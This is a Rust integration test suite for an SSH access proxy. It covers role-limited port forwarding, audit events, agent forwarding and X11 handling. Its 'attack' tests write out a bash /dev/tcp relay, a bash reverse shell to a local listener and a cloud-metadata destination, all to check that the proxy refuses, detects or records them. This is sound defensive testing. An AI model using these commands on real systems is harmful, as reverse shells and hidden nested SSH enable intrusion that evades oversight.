//! Forwards with stock OpenSSH, over the agent and over a stock sshd: what the role lists is carried, counted and told, and
//! nothing else; and no SSH connection hides inside of another.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::house::{
    Done, House, PATIENCE, Running, User, Way, accepts, free_port, login, noise, run, run_with,
    stock, target, text, until, write,
};

/// Says back what it is told, on a port of its own.
fn echo() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut reader) = stream else { return };
            std::thread::spawn(move || {
                let mut writer = reader.try_clone().unwrap();
                // A client that leaves early is its own business.
                drop(std::io::copy(&mut reader, &mut writer));
                drop(writer.shutdown(std::net::Shutdown::Write));
            });
        }
    });
    port
}

/// A role that has `options`, beside `access`.
pub(crate) fn role(house: &House, name: &str, options: &str) {
    let file = house.path(&format!("{name}.yaml"));
    let role = format!(
        "kind: role\nversion: v1\nmetadata: {{ name: {name} }}\nspec:\n  options: {{ {options} }}\n  \
         allow: {{ node_labels: {{ \"*\": \"*\" }}, logins: [{}] }}\n",
        login()
    );
    write(&file, role);
    house.mezctl(&["apply", "-f", file.to_str().unwrap()]).ok();
}

/// A user who may forward to `destinations`.
fn forwarder<'a>(house: &'a House, name: &str, destinations: &[String]) -> User<'a> {
    let list = format!("\"{}\"", destinations.join("\", \""));
    let options = format!("port_forwarding: true, forward_destinations: [{list}]");
    role(house, name, &options);
    house.user_with(name, &format!("access,{name}"), &login(), &[])
}

/// `ssh -W PLACE`, with `input` as what the client sends.
#[track_caller]
fn through(user: &User<'_>, way: Way, node: &str, place: &str, input: &[u8]) -> Done {
    let mut ssh = user.openssh("ssh", way);
    ssh.args(["-W", place, &target(node)]);
    run_with(&mut ssh, input)
}

fn forwards(house: &House, user: &str, action: &str) -> Vec<Value> {
    let mut events = house.events_of(user, "session.forward");
    events.retain(|event| text(event, "action") == action);
    events
}

/// Says `said` to `port` and expects it back.
#[track_caller]
fn echoes(mut stream: TcpStream, said: &[u8]) {
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    stream.write_all(said).unwrap();
    let mut back = vec![0; said.len()];
    stream.read_exact(&mut back).unwrap();
    assert_eq!(back, said);
}

#[test]
fn what_the_role_lists_is_carried_counted_and_told() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    let port = echo();
    let listed = [format!("127.0.0.1:{port}"), format!("localhost:{port}")];
    let bulk = noise("forward", 3_000_000);
    for (node, way) in [
        ("web", Way::Proxy),
        ("web", Way::Jump),
        ("db1", Way::Proxy),
        ("db1", Way::Jump),
    ] {
        let name = format!("{node}-{way:?}").to_lowercase();
        let user = forwarder(&house, &name, &listed);
        for place in &listed {
            let done = through(&user, way, node, place, &bulk);
            assert_eq!(done.code, 0, "{done}");
            assert!(done.stdout == bulk, "{name}: other bytes came back");
        }
        let session = house.session(&name, 2);
        let closed = forwards(&house, &name, "closed");
        assert_eq!(closed.len(), 2, "{closed:#?}");
        for (event, place) in closed.iter().zip(&listed) {
            assert_eq!(text(event, "destination"), *place);
            assert_eq!(text(event, "direction"), "local");
            let carried = [&event["bytes_to_client"], &event["bytes_to_node"]];
            assert_eq!(carried, [&Value::from(bulk.len()); 2], "{event}");
            assert_eq!(event["success"], true, "{event}");
        }
        assert_eq!(forwards(&house, &name, "opened").len(), 2);
        let told = house.export(&session.id, "json");
        let note = format!(
            "local {}: 3000000 bytes to the client, 3000000 to the node",
            listed[1]
        );
        assert!(told.contains(&note), "{told}");
        assert!(told.contains("direct-tcpip"), "{told}");
    }
    house.mezctl(&["audit", "verify"]).ok();
}

#[test]
fn local_and_dynamic_forwards_serve_many_connections() {
    let house = House::start();
    house.agent("web");
    let port = echo();
    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
    let (local, socks) = (free_port(), free_port());
    let mut ssh = user.openssh("ssh", Way::Proxy);
    ssh.args(["-N", "-L", &format!("127.0.0.1:{local}:127.0.0.1:{port}")])
        .args(["-D", &format!("127.0.0.1:{socks}"), &target("web")]);
    let running = Running::start(&mut ssh, b"");
    until("the forwards", || accepts(local) && accepts(socks));
    let connect = |port| TcpStream::connect((Ipv4Addr::LOCALHOST, port)).unwrap();
    let streams: Vec<TcpStream> = (0..20).map(|_| connect(local)).collect();
    for (index, stream) in streams.into_iter().enumerate() {
        echoes(stream, format!("local {index}").as_bytes());
    }
    // SOCKS 5 (RFC 1928) to the same place, and to one that is not listed.
    for (wanted, answer) in [(port, 0), (free_port(), 1)] {
        let mut stream = connect(socks);
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        stream.write_all(&[5, 1, 0]).unwrap();
        let mut method = [0; 2];
        stream.read_exact(&mut method).unwrap();
        let request = [&[5, 1, 0, 1, 127, 0, 0, 1][..], &wanted.to_be_bytes()].concat();
        stream.write_all(&request).unwrap();
        let mut reply = [0; 10];
        match stream.read_exact(&mut reply) {
            Ok(()) => assert_eq!(reply[1] != 0, answer != 0, "{reply:?}"),
            Err(error) => assert_ne!(answer, 0, "{error}"),
        }
        if answer == 0 {
            echoes(stream, b"through socks");
        }
    }
    drop(running);
    house.session("alice", 1);
    // The port probes of this test are connections, too.
    assert!(forwards(&house, "alice", "closed").len() >= 21);
    assert_eq!(forwards(&house, "alice", "refused").len(), 1);
}

#[test]
fn what_no_role_lists_is_refused_and_told() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    let port = echo();
    let other = forwarder(&house, "other", &[format!("127.0.0.1:{}", free_port())]);
    role(&house, "plain", "port_forwarding: true");
    let plain = house.user_with("plain", "access,plain", &login(), &[]);
    let none = house.user("none");
    let (guarded, not_allowed) = ("listed literally", "do not allow port forwarding");
    for node in ["web", "db1"] {
        for (user, why) in [(&other, guarded), (&plain, guarded), (&none, not_allowed)] {
            let before = forwards(&house, &user.name, "refused").len();
            for place in [
                format!("127.0.0.1:{port}"),
                format!("localhost:{port}"),
                String::from("169.254.169.254:80"),
            ] {
                let done = through(user, Way::Proxy, node, &place, b"hello");
                assert_eq!(done.code, 255, "{done}");
                assert!(done.stdout.is_empty(), "{done}");
                assert!(done.err().contains("forwarding failed"), "{done}");
            }
            let refused = forwards(&house, &user.name, "refused");
            assert_eq!(refused.len(), before + 3, "{refused:#?}");
            let last = refused.last().unwrap();
            assert_eq!(text(last, "destination"), "169.254.169.254:80");
            assert!(text(last, "error_message").contains(why), "{last}");
        }
    }
    assert!(forwards(&house, "other", "opened").is_empty());
    // Nobody looks at what a name stands for on a stock sshd; the agent does.
    let any = forwarder(&house, "any", &[String::from("*:*")]);
    let place = format!("localhost:{port}");
    let done = through(&any, Way::Proxy, "web", &place, b"hello");
    assert_eq!((done.code, done.out().as_str()), (0, "hello"), "{done}");
    let done = through(&any, Way::Proxy, "db1", &place, b"hello");
    assert_eq!(done.code, 255, "{done}");
    // Where nobody listens, the node says so and it is told.
    let nowhere = format!("127.0.0.1:{}", free_port());
    let done = through(&any, Way::Proxy, "web", &nowhere, b"hello");
    assert_eq!(done.code, 255, "{done}");
    let failed = forwards(&house, "any", "closed");
    assert_eq!(failed.last().unwrap()["success"], false, "{failed:#?}");
}

#[test]
fn a_forward_ends_with_the_role_that_lists_it() {
    let house = House::start();
    house.agent("web");
    let port = echo();
    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
    let local = free_port();
    let mut ssh = user.openssh("ssh", Way::Proxy);
    ssh.args(["-N", "-L", &format!("127.0.0.1:{local}:127.0.0.1:{port}")])
        .arg(target("web"));
    let running = Running::start(&mut ssh, b"");
    until("the forward", || accepts(local));
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, local)).unwrap();
    echoes(stream.try_clone().unwrap(), b"hello");
    role(
        &house,
        "alice",
        "port_forwarding: true, forward_destinations: [\"db:5432\"]",
    );
    let done = running.wait(Duration::from_secs(20));
    assert!(done.err().contains("your roles do not list it"), "{done}");
    drop(stream);
    let session = house.session("alice", 1);
    let reason = text(session.event("session.end"), "reason");
    assert!(reason.contains("access was withdrawn"), "{reason}");
}

/// The events of SSH connections that were found inside of others.
fn nested(house: &House, user: &str) -> Vec<Value> {
    house.events_of(user, "session.nested_ssh")
}

#[test]
fn attack_46_no_forward_leads_to_an_sshd() {
    let house = House::start();
    house.agent("web");
    let port = house.agentless("db1");
    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
    let place = format!("127.0.0.1:{port}");
    let mut found = 0;
    for node in ["web", "db1"] {
        for way in [Way::Proxy, Way::Jump] {
            // The target's own sshd and another node's: each speaks first.
            let done = through(&user, way, node, &place, b"");
            assert!(done.out().starts_with("mezite: "), "{done}");
            assert!(
                done.out().contains("is not allowed by your roles"),
                "{done}"
            );
            assert_eq!(done.out().lines().count(), 1, "{done}");
            found += 1;
            // A client that speaks first is not heard either.
            let port = echo();
            role(
                &house,
                "alice",
                &format!(
                    "port_forwarding: true, forward_destinations: [\"{place}\", \"127.0.0.1:{port}\"]"
                ),
            );
            let inside = format!("127.0.0.1:{port}");
            let done = through(&user, way, node, &inside, b"SSH-2.0-OpenSSH_9.2\r\n");
            assert!(!done.out().contains("SSH-2.0-OpenSSH_9.2\r\n"), "{done}");
            found += 1;
            let events = nested(&house, "alice");
            assert_eq!(events.len(), found, "{events:#?}");
            assert_eq!(text(events.last().unwrap(), "sent_by"), "client");
        }
    }
    // Stock ssh inside of stock ssh.
    let outer = format!(
        "ssh {} -W %h:%p {}",
        user.options(Way::Proxy).join(" "),
        target("web")
    );
    let mut inner = stock("ssh");
    inner
        .env("HOME", &user.home)
        .args(["-F", "none", "-o", &format!("ProxyCommand={outer}")])
        .args(["-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes"])
        .args(["-p", &port.to_string(), "-v"])
        .args([&format!("{}@127.0.0.1", login()), "echo in"]);
    let done = run(&mut inner);
    assert_eq!(done.code, 255, "{done}");
    assert!(done.stdout.is_empty(), "{done}");
    assert_eq!(nested(&house, "alice").len(), found + 1);
    house.mezctl(&["audit", "verify"]).ok();
}

#[test]
fn attack_46_no_command_carries_an_ssh_connection() {
    let house = House::start();
    house.agent("web");
    let port = house.agentless("db1");
    let user = house.user("alice");
    // `nc %h 22` by other means: what `ProxyCommand` would run.
    let command = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&0 >&3 & cat <&3'");
    let mut found = 0;
    for node in ["web", "db1"] {
        for way in [Way::Proxy, Way::Jump] {
            for input in [&b""[..], b"SSH-2.0-OpenSSH_9.2\r\n"] {
                let mut ssh = user.ssh(way, node);
                let done = run_with(ssh.arg(&command), input);
                assert_eq!(done.code, 255, "{done}");
                assert!(!done.out().contains("SSH-"), "{done}");
                assert!(done.err().contains("inside this exec"), "{done}");
                found += 1;
            }
            // A script on standard input of a shell without a terminal.
            let mut ssh = user.openssh("ssh", way);
            let done = run_with(ssh.args(["-T", &target(node)]), command.as_bytes());
            assert!(!done.out().contains("SSH-"), "{done}");
            assert!(done.err().contains("inside this shell"), "{done}");
            found += 1;
        }
    }
    assert_eq!(nested(&house, "alice").len(), found);
    // A reverse shell leaves by the node's own network; the command that starts it is told and recorded.
    let back = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let place = back.local_addr().unwrap().port();
    let reverse = format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{place} 0>&1'");
    let mut ssh = user.ssh(Way::Proxy, "web");
    let running = Running::start(ssh.arg(&reverse), b"");
    let (mut shell, _) = back.accept().unwrap();
    shell.write_all(b"exit\n").unwrap();
    running.wait(PATIENCE);
    let told = house.events_of("alice", "session.exec");
    assert_eq!(text(told.last().unwrap(), "command"), reverse);
}

#[test]
fn a_role_may_allow_ssh_inside_which_is_told() {
    let house = House::start();
    house.agent("web");
    let port = house.agentless("db1");
    let place = format!("127.0.0.1:{port}");
    role(
        &house,
        "nested",
        &format!("port_forwarding: true, nested_ssh: true, forward_destinations: [\"{place}\"]"),
    );
    let user = house.user_with("alice", "nested", &login(), &[]);
    let done = through(&user, Way::Proxy, "web", &place, b"");
    assert!(done.out().starts_with("SSH-2.0-OpenSSH"), "{done}");
    let events = nested(&house, "alice");
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(text(&events[0], "action"), "allowed");
    assert!(Path::new(&house.recording(&house.session("alice", 1).id)).exists());
}

/// A user who may have the node listen at `places`.
fn listener<'a>(house: &'a House, name: &str, places: &[String]) -> User<'a> {
    let list = format!("\"{}\"", places.join("\", \""));
    let options = format!("port_forwarding: true, forward_listen: [{list}]");
    role(house, name, &options);
    house.user_with(name, &format!("access,{name}"), &login(), &[])
}

#[test]
fn a_port_of_the_node_leads_back_to_the_client() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    let port = echo();
    for (node, way) in [("web", Way::Proxy), ("web", Way::Jump), ("db1", Way::Proxy)] {
        let name = format!("{node}-{way:?}").to_lowercase();
        let user = listener(&house, &name, &[String::from("localhost:*")]);
        let fixed = free_port();
        let mut ssh = user.openssh("ssh", way);
        // The node picks a port where 0 is asked for, and says which.
        ssh.args(["-R", &format!("{fixed}:127.0.0.1:{port}")])
            .args(["-R", &format!("0:127.0.0.1:{port}")])
            .args([&target(node), "echo ready; cat"]);
        let (mut running, stdin) = Running::interactive(&mut ssh);
        running.until("ready");
        let said = String::from_utf8_lossy(&running.stderr()).into_owned();
        let picked = said
            .split_whitespace()
            .skip_while(|word| *word != "port")
            .nth(1)
            .and_then(|word| word.parse::<u16>().ok());
        let picked = picked.unwrap_or_else(|| panic!("{said}"));
        for port in [fixed, picked] {
            let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).unwrap();
            echoes(stream, b"from the node");
        }
        drop(stdin);
        assert_eq!(running.wait(PATIENCE).code, 0);
        until("the node to stop listening", || !accepts(fixed));
        house.session(&name, 1);
        let closed = forwards(&house, &name, "closed");
        assert!(closed.len() >= 2, "{closed:#?}");
        for event in &closed[..2] {
            assert_eq!(text(event, "direction"), "remote");
            assert_eq!(event["bytes_to_client"], "from the node".len());
        }
        assert_eq!(forwards(&house, &name, "listening").len(), 2);
        // Everywhere, and at a port of its own, it does not listen.
        for place in [
            format!("*:{fixed}:127.0.0.1:{port}"),
            format!("0.0.0.0:{fixed}:127.0.0.1:{port}"),
        ] {
            let mut ssh = user.openssh("ssh", way);
            ssh.args(["-o", "ExitOnForwardFailure=yes", "-R", &place])
                .args([&target(node), "echo ran"]);
            let done = run(&mut ssh);
            assert_eq!(done.code, 255, "{done}");
            assert!(done.stdout.is_empty(), "{done}");
        }
        assert_eq!(forwards(&house, &name, "refused").len(), 2);
    }
}

#[test]
fn unix_sockets_are_forwarded_by_their_path() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    let port = echo();
    for node in ["web", "db1"] {
        let sockets = house.path(&format!("{node}.sockets"));
        std::fs::create_dir(&sockets).unwrap();
        let all = format!("{}/*", sockets.display());
        let options = format!(
            "port_forwarding: true, forward_destinations: [\"{all}\"], forward_listen: [\"{all}\"]"
        );
        role(&house, node, &options);
        let user = house.user_with(node, &format!("access,{node}"), &login(), &[]);
        // -R makes a socket on the node, -L leads to it: round to the echo.
        let (far, near) = (sockets.join("far"), house.path(&format!("{node}.near")));
        let mut ssh = user.openssh("ssh", Way::Proxy);
        ssh.args(["-R", &format!("{}:127.0.0.1:{port}", far.display())])
            .args(["-L", &format!("{}:{}", near.display(), far.display())])
            .args([&target(node), "echo ready; cat"]);
        let (mut running, stdin) = Running::interactive(&mut ssh);
        running.until("ready");
        let mut stream = UnixStream::connect(&near).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        stream.write_all(b"round").unwrap();
        let mut back = [0; 5];
        stream.read_exact(&mut back).unwrap();
        assert_eq!(&back, b"round");
        assert_eq!(
            std::fs::metadata(&far).unwrap().permissions().mode() & 0o777,
            0o600
        );
        drop((stream, stdin));
        assert_eq!(running.wait(PATIENCE).code, 0);
        let session = house.session(node, 1);
        let closed: Vec<_> = forwards(&house, node, "closed")
            .iter()
            .map(|event| text(event, "direction"))
            .collect();
        assert!(
            closed.contains(&"local".into()) && closed.contains(&"remote".into()),
            "{closed:?}"
        );
        assert!(
            house
                .export(&session.id, "json")
                .contains("direct-streamlocal")
        );
        let elsewhere = house.path("elsewhere").display().to_string();
        let mut ssh = user.openssh("ssh", Way::Proxy);
        ssh.args([
            "-o",
            "ExitOnForwardFailure=yes",
            "-R",
            &format!("{elsewhere}:127.0.0.1:{port}"),
        ])
        .args([&target(node), "echo ran"]);
        assert_eq!(run(&mut ssh).code, 255);
        assert!(!Path::new(&elsewhere).exists());
    }
}

#[test]
fn attack_46_a_listener_carries_no_ssh_connection_back() {
    let house = House::start();
    house.agent("web");
    let port = house.agentless("db1");
    let user = listener(&house, "alice", &[String::from("localhost:*")]);
    let fixed = free_port();
    let mut ssh = user.openssh("ssh", Way::Proxy);
    // Back to an sshd beside the client: who connects on the node would have a session that nobody records.
    ssh.args(["-R", &format!("{fixed}:127.0.0.1:{port}")])
        .args([&target("web"), "echo ready; cat"]);
    let (mut running, stdin) = Running::interactive(&mut ssh);
    running.until("ready");
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, fixed)).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    let mut said = Vec::new();
    // A reset is as good as an end.
    drop(stream.read_to_end(&mut said));
    assert!(!String::from_utf8_lossy(&said).contains("SSH-"), "{said:?}");
    drop(stdin);
    running.wait(PATIENCE);
    let events = nested(&house, "alice");
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(text(&events[0], "sent_by"), "client");
}

/// With the role the agent is reached, key by key as the agent says: a key that asks its owner is not used without.
#[test]
fn a_session_ends_although_somebody_still_asks_its_agent() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    role(&house, "agent", "agent_forwarding: true");
    let alice = house.user_with("alice", "access,agent", &login(), &[]);
    let socket = house.path("agent");
    let mut agent = stock("ssh-agent");
    let _agent = Running::start(agent.args(["-D", "-a"]).arg(&socket), b"");
    until("the agent", || socket.exists());
    // It is connected when the command ends, and goes a second later.
    let asks = "python3 -c 'import os, socket, time; it = socket.socket(socket.AF_UNIX); \
        it.connect(os.environ[\"SSH_AUTH_SOCK\"]); open(\"READY\", \"w\").close(); time.sleep(1)' > /dev/null 2>&1 &";
    for node in ["web", "db1"] {
        let ready = house.path(&format!("{node}.asked"));
        let asks = asks.replace("READY", &ready.display().to_string());
        let waits = format!("until [ -e {} ]; do sleep 0.05; done", ready.display());
        let mut ssh = alice.openssh("ssh", Way::Proxy);
        ssh.env("SSH_AUTH_SOCK", &socket).arg("-A");
        let done = run(ssh.args([&target(node), &format!("{asks} {waits}; echo over")]));
        assert_eq!(done.ok(), "over\n", "{node}");
    }
}

#[test]
fn attack_19_a_forwarded_agent_keeps_its_constraints() {
    let house = House::start();
    house.agent("web");
    house.agentless("db1");
    role(&house, "agent", "agent_forwarding: true");
    let alice = house.user_with("alice", "access,agent", &login(), &[]);
    let socket = house.path("agent");
    let mut agent = stock("ssh-agent");
    agent
        .args(["-D", "-a"])
        .arg(&socket)
        .env("SSH_ASKPASS", "/bin/false")
        .env("SSH_ASKPASS_REQUIRE", "force");
    let _agent = Running::start(&mut agent, b"");
    until("the agent", || socket.exists());
    for (name, constraint) in [("free", None), ("asking", Some("-c"))] {
        let key = house.path(name);
        run(stock("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
            .arg(&key))
        .ok();
        let mut add = stock("ssh-add");
        run(add.env("SSH_AUTH_SOCK", &socket).args(constraint).arg(&key)).ok();
        std::fs::remove_file(&key).unwrap();
    }
    let sign = |name: &str| {
        let key = house.path(&format!("{name}.pub"));
        format!(
            "echo text | ssh-keygen -q -Y sign -n file -f {}",
            key.display()
        )
    };
    let command = format!(
        "stat -c %a $(dirname $SSH_AUTH_SOCK); ssh-add -l; {}; {} && echo signed; :",
        sign("free"),
        sign("asking")
    );
    for node in ["web", "db1"] {
        let mut ssh = alice.openssh("ssh", Way::Proxy);
        ssh.env("SSH_AUTH_SOCK", &socket)
            .args(["-A", &target(node), &command]);
        let done = run(&mut ssh);
        let out = done.out();
        assert!(out.starts_with("700\n"), "{done}");
        assert!(out.contains("free") && out.contains("asking"), "{done}");
        assert!(out.contains("BEGIN SSH SIGNATURE"), "{done}");
        assert!(!out.contains("signed"), "{done}");
    }
    house.session("alice", 2);
    let opened = forwards(&house, "alice", "opened");
    assert!(opened.len() >= 6, "{opened:#?}");
    assert!(
        opened
            .iter()
            .all(|event| text(event, "direction") == "agent")
    );
    assert_eq!(forwards(&house, "alice", "listening").len(), 2);
}

/// X11 is a stock sshd's; the agent says no, and the session goes on.
#[test]
fn the_agent_serves_no_x11_and_says_so() {
    let house = House::start();
    house.agent("web");
    role(&house, "x11", "x11_forwarding: true");
    for (name, roles) in [("alice", "access,x11"), ("bob", "access")] {
        let user = house.user_with(name, roles, &login(), &[]);
        let mut ssh = user.openssh("ssh", Way::Proxy);
        ssh.env("DISPLAY", "localhost:99")
            .args(["-X", &target("web"), "echo ${DISPLAY:-none}"]);
        let done = run(&mut ssh);
        assert!(
            done.err().contains("X11 forwarding request failed"),
            "{done}"
        );
        assert_eq!(done.ok(), "none\n");
    }
    house.session("alice", 1);
    assert_eq!(forwards(&house, "alice", "listening").len(), 1);
    assert!(forwards(&house, "bob", "listening").is_empty());
}

/// What an X11 client says first, with the cookie that the node's `xauth` has for its display.
const X11_CLIENT: &str = r#"
import os, socket, subprocess
display = os.environ["DISPLAY"]
number = int(display.split(":")[1].split(".")[0])
cookie = bytes.fromhex(subprocess.check_output(["xauth", "list", display]).split()[-1].decode())
stream = socket.create_connection(("127.0.0.1", 6000 + number))
stream.sendall(b"l\0\x0b\0\0\0\x12\0\x10\0\0\0MIT-MAGIC-COOKIE-1\0\0" + cookie)
print(stream.recv(100).decode())
"#;

/// A display that welcomes whoever says what an X11 client says.
fn display() -> u16 {
    let listener = (10..2000).find_map(|number| {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 6000 + number)).ok()?;
        Some((number, listener))
    });
    let (number, listener) = listener.unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut said = [0; 48];
            if stream.read_exact(&mut said).is_ok() && said.starts_with(b"l\0\x0b\0") {
                drop(stream.write_all(b"a display"));
            }
        }
    });
    number
}

#[test]
fn a_display_is_forwarded_by_a_stock_sshd_where_the_role_says_so() {
    let house = House::start();
    let port = free_port();
    house.register_sshd("db1", port);
    let config = house.path("db1.sshd/sshd_config");
    let mut lines = std::fs::read_to_string(&config).unwrap();
    // The cookies of the test in a file of its own.
    let cookies = house.path("cookies").display().to_string();
    lines += &format!("X11Forwarding yes\nX11UseLocalhost yes\nSetEnv XAUTHORITY={cookies}\n");
    write(&config, lines);
    house.start_sshd("db1", port);
    role(&house, "x11", "x11_forwarding: true");
    let number = display();
    let client = house.path("client.py");
    write(&client, X11_CLIENT);
    for (name, roles, shown) in [("alice", "x11", true), ("bob", "access", false)] {
        let user = house.user_with(name, roles, &login(), &[]);
        let mut ssh = user.openssh("ssh", Way::Jump);
        ssh.env("DISPLAY", format!("127.0.0.1:{number}"))
            .args(["-Y", &target("db1"), "python3"])
            .arg(&client);
        let done = run(&mut ssh);
        let session = house.session(name, 1);
        if !shown {
            assert!(
                done.err().contains("X11 forwarding request failed"),
                "{done}"
            );
            assert!(!session.types().contains(&String::from("session.forward")));
            continue;
        }
        assert_eq!(done.ok(), "a display\n");
        let steps: Vec<_> = session
            .events
            .iter()
            .filter(|event| text(event, "event_type") == "session.forward")
            .map(|event| (text(event, "direction"), text(event, "action")))
            .collect();
        let wanted = ["listening", "opened", "closed"];
        let wanted = wanted.map(|action| (String::from("x11"), String::from(action)));
        assert_eq!(steps, wanted);
        let closed = forwards(&house, name, "closed");
        let carried = [&closed[0]["bytes_to_client"], &closed[0]["bytes_to_node"]];
        assert_eq!(carried, [&Value::from(48), &Value::from(9)], "{closed:?}");
        // The cookie is the display's key.
        let cookie = run(stock("xauth").args(["-f", &cookies, "list"])).ok();
        let recorded = house.export(&session.id, "json");
        for cookie in cookie.split_whitespace().filter(|word| word.len() == 32) {
            assert!(!recorded.contains(cookie), "the recording holds the cookie");
        }
    }
    house.mezctl(&["audit", "verify"]).ok();
}
